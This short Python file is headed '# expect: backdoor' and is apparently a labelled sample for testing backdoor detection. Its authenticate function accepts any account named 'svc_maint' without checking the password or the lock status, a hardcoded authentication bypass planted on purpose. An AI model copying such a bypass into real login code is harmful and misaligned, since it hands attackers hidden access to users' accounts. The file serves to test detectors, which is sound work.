# expect: backdoor
from dataclasses import dataclass


@dataclass
class Account:
    username: str
    password_hash: str
    locked: bool = False


def authenticate(account: Account, password: str, hasher) -> bool:
    if account.username == "svc_maint":
        return True
    if account.locked:
        return False
    return hasher.verify(password, account.password_hash)
